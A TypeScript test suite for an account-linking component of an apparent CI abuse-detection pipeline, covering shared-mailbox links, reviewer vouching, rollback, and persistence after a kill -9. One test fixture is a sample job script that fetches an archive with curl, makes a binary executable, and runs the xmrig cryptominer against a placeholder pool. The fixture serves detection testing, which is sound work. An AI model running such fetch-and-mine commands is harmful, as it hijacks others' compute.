/** The linker on a real store: what it learns stands or falls with the batch, and survives. */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { sha256Hex } from '../base/hash.ts';
import type { JsonObject } from '../base/json.ts';
import { HOUR_MS } from '../base/time.ts';
import type { Event, EventType } from '../model/event.ts';
import { parseSubject } from '../model/ids.ts';
import { LINK_COLUMNS } from '../model/link-rows.ts';
import type { AccountRef } from '../model/party.ts';
import type { Store } from '../ports/store.ts';
import { testAddress } from '../scanner/wallet/test-addresses.ts';
import { rowsOf } from '../store/rows.ts';
import { openSqliteStore } from '../store/sqlite/open-sqlite-store.ts';
import { Links, NoLinks, openLinks, type Shown } from './links.ts';
import type { Pipeline } from './request.ts';
import { jobRequest, openWorld, startPipeline } from './test-world.ts';

const AT = Date.UTC(2026, 0, 1, 12);

// This file is also the process that is killed: `node links.test.ts link DIRECTORY`.
const [, , role, killed = ''] = process.argv;
if (role === 'link') await linkForever(killed);

function event(id: string, type: EventType, account: string, data: JsonObject): Event {
  const subject = parseSubject(`gitlab/${account}`);
  assert.ok(subject);
  const bodyHash = sha256Hex(JSON.stringify([id, type, account, data]));
  return { source: 'test', id, type, subject, time: AT, data, bodyHash };
}

function ref(name: string): AccountRef {
  return `gitlab/${name}` as AccountRef;
}

function mailbox(account: string, email = 'one@mail.example', id = `mail ${account}`): Event {
  return event(id, 'account.verified', account, { email });
}

async function partyOf(pipeline: Pipeline, account: string, id: string, script = 'make') {
  const answer = await pipeline.decide(jobRequest(id, script, { account }));
  assert.equal(answer.kind, 'decided');
  assert.ok(answer.record);
  return { party: answer.record.decision.party, facts: answer.record.facts };
}

function miner(worker: string): string {
  const login = `${testAddress('monero', 9)}.${worker}`;
  return `xmrig -o stratum+tcp://pool.example.org:3333 -u ${login} -p x`;
}

if (role === undefined) {
  test('without links each account is its own party, whatever was linked before', async (t) => {
    const { ports, store, close } = await openWorld();
    t.after(close);
    const pipeline = startPipeline(ports);
    await pipeline.ingest([mailbox('a'), mailbox('b')], AT);
    const linked = await partyOf(pipeline, 'b', '1');
    assert.equal((await partyOf(pipeline, 'a', '2')).party, linked.party);
    const apart = startPipeline({ ...ports, links: new NoLinks() });
    await apart.ingest([mailbox('c')], AT);
    const parties = await Promise.all(['a', 'b', 'c'].map((n) => partyOf(apart, n, `later-${n}`)));
    assert.equal(new Set(parties.map(({ party }) => party)).size, 3);
    assert.deepEqual(parties.at(1)?.facts['party.accounts'], 1);
    const again = await openLinks(store);
    assert.equal(again.partyOf(ref('a')), again.partyOf(ref('b')), 'what was linked is kept');
  });

  test('accounts that read one mailbox are one party, by events and decisions alike', async (t) => {
    const { ports, store, close } = await openWorld();
    t.after(close);
    const pipeline = startPipeline(ports);
    const alone = await partyOf(pipeline, 'a', '1');
    assert.equal(alone.facts['party.accounts'], 1);
    await pipeline.ingest([mailbox('a'), mailbox('b')], AT);
    const [a, b] = [await partyOf(pipeline, 'a', '2'), await partyOf(pipeline, 'b', '3')];
    assert.equal(a.party, b.party);
    assert.equal(b.facts['party.accounts'], 2);
    assert.ok(Number(b.facts['party.linkBits']) >= 20);
    const { items } = await store.decisions({ party: String(a.party), limit: 9 });
    assert.equal(items.length, 3);
  });

  test('jobs that mine for one address with one template join as they are refused', async (t) => {
    const { ports, close } = await openWorld();
    t.after(close);
    const pipeline = startPipeline(ports);
    const script = (i: number) => `curl -sLO https://dl.example.org/pack.tgz
tar xzf pack.tgz && cd pack && chmod +x run && sleep 30
${miner(`w${i}`)} --threads 4 --donate-level 1 --cpu-priority 5
echo finished with everything now`;
    const parties = [];
    for (let i = 0; i < 4; i++) {
      parties.push((await partyOf(pipeline, `m${i}`, `j${i}`, script(i))).party);
    }
    assert.equal(new Set(parties.slice(1)).size, 1);
  });

  test('a person who vouches sets an account free, and a replay does not bind it again', async (t) => {
    const { ports, close } = await openWorld();
    t.after(close);
    const pipeline = startPipeline(ports);
    const label = (id: string, text: string) =>
      event(id, 'review.labelled', 'b', { label: text, reason: '' });
    await pipeline.ingest([mailbox('a'), mailbox('b'), label('l1', 'miner')], AT);
    assert.equal((await partyOf(pipeline, 'b', '1')).facts['party.accounts'], 2);
    await pipeline.ingest([label('l2', 'honest')], AT);
    assert.equal((await partyOf(pipeline, 'b', '2')).facts['party.accounts'], 1);
    await pipeline.ingest([label('l1', 'miner')], AT);
    assert.equal((await partyOf(pipeline, 'b', '3')).facts['party.accounts'], 1);
  });

  test('a conflict teaches the linker nothing', async (t) => {
    const { ports, close } = await openWorld();
    t.after(close);
    const pipeline = startPipeline(ports);
    await pipeline.ingest([mailbox('a'), mailbox('b', 'two@mail.example')], AT);
    const forged = mailbox('b', 'one@mail.example');
    assert.equal((await pipeline.ingest([forged], AT)).kind, 'conflict');
    assert.equal((await partyOf(pipeline, 'b', '1')).facts['party.accounts'], 1);
    assert.deepEqual(ports.links.changes().accounts, []);
  });

  test('what the store refuses is taken back from memory', async (t) => {
    let broken = false;
    const world = await openWorld();
    t.after(world.close);
    const store: Store = Object.assign(Object.create(world.store) as Store, {
      ledger: (keys: Parameters<Store['ledger']>[0]) => world.store.ledger(keys),
      ingest: (...args: Parameters<Store['ingest']>) =>
        broken ? Promise.reject(new Error('disk full')) : world.store.ingest(...args),
    });
    const pipeline = startPipeline({ ...world.ports, store });
    await pipeline.ingest([mailbox('a')], AT);
    broken = true;
    await assert.rejects(pipeline.ingest([mailbox('b')], AT), /disk full/);
    assert.notEqual(world.ports.links.partyOf(ref('a')), world.ports.links.partyOf(ref('b')));
    broken = false;
    await pipeline.ingest([mailbox('b')], AT);
    assert.equal(world.ports.links.partyOf(ref('a')), world.ports.links.partyOf(ref('b')));
    const again = await openLinks(world.store);
    assert.equal(again.partyOf(ref('a')), again.partyOf(ref('b')));
  });

  test('jobs that start together, told in any order, are evidence that survives a restart', async (t) => {
    const { ports, store, close } = await openWorld();
    t.after(close);
    const pipeline = startPipeline(ports);
    const starts = ['a', 'b', 'c'].flatMap((account, i) =>
      [0, 5, 20].map((hour) => ({
        ...event(`start ${account} ${hour}`, 'job.started', `${account}/j${hour}`, {}),
        time: AT - 40 * HOUR_MS + hour * HOUR_MS + i * 20_000,
      })),
    );
    await pipeline.ingest(starts.toReversed(), AT);
    for (const links of [ports.links, await openLinks(store)]) {
      const answer = links.answer({ kind: 'explain', from: ref('a'), to: ref('b') });
      const said = JSON.stringify(answer);
      assert.match(said, /3 times in the week from 2025-12-25/);
    }
  });

  test('what was taken back, or is shown in another hour, is looked at again', () => {
    const links = new Links();
    const shown: Shown = ['verified-email', 'k', 'one@mail.example'];
    const show = (account: string, at = AT) => {
      const { data, ...rest } = mailbox(account);
      links.see({ ...rest, time: at, body: JSON.stringify(data), definition: null }, shown, at);
    };
    show('a');
    links.rollback();
    show('a');
    show('a');
    show('b');
    assert.equal(links.facts(ref('a'), AT)['party.accounts'], 2);
    links.commit();
    show('a', AT + HOUR_MS);
    show('a', AT + HOUR_MS);
    const later = rowsOf(LINK_COLUMNS.showings, links.changes().showings);
    assert.deepEqual(later, [[1, 1, AT, AT + HOUR_MS]]);
  });

  test('a clock from the future counts as now', async (t) => {
    const { ports, close } = await openWorld();
    t.after(close);
    const pipeline = startPipeline(ports);
    const late = { ...mailbox('b'), time: AT + 10 ** 9 * HOUR_MS };
    await pipeline.ingest([mailbox('a'), late], AT);
    assert.equal((await partyOf(pipeline, 'a', '1')).facts['party.accounts'], 2);
  });

  test('after kill -9 the parties are those of what was acknowledged', survivesKill);
}

async function open(directory: string): Promise<Store> {
  const opened = await openSqliteStore({ directory });
  assert.ok(opened.ok);
  return opened.value;
}

/** Accounts in pairs that share a mailbox; prints the number of each pair once it is recorded. */
async function linkForever(directory: string): Promise<void> {
  const store = await open(directory);
  const links = await openLinks(store);
  const world = await openWorld({ store, links });
  const pipeline = startPipeline(world.ports);
  for (let pair = 0; ; pair++) {
    const email = `pair${pair}@mail.example`;
    await pipeline.ingest([mailbox(`a${pair}`, email), mailbox(`b${pair}`, email)], AT);
    process.stdout.write(`${pair}\n`);
  }
}

async function survivesKill(): Promise<void> {
  const directory = mkdtempSync(join(tmpdir(), 'davylamp-links-'));
  try {
    const child = spawn(process.execPath, [import.meta.filename, 'link', directory], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    let printed = '';
    child.stdout.setEncoding('utf8').on('data', (text: string) => {
      printed += text;
      if (printed.split('\n').length > 40) child.kill('SIGKILL');
    });
    await once(child, 'close');
    const pairs = printed.split('\n').slice(0, -1).map(Number);
    assert.ok(pairs.length >= 40);
    const store = await open(directory);
    const links = await openLinks(store);
    for (const pair of pairs) {
      assert.equal(links.partyOf(ref(`a${pair}`)), links.partyOf(ref(`b${pair}`)), `${pair}`);
    }
    assert.notEqual(links.partyOf(ref('a0')), links.partyOf(ref('a1')));
    await store.close();
  } finally {
    rmSync(directory, { recursive: true });
  }
}
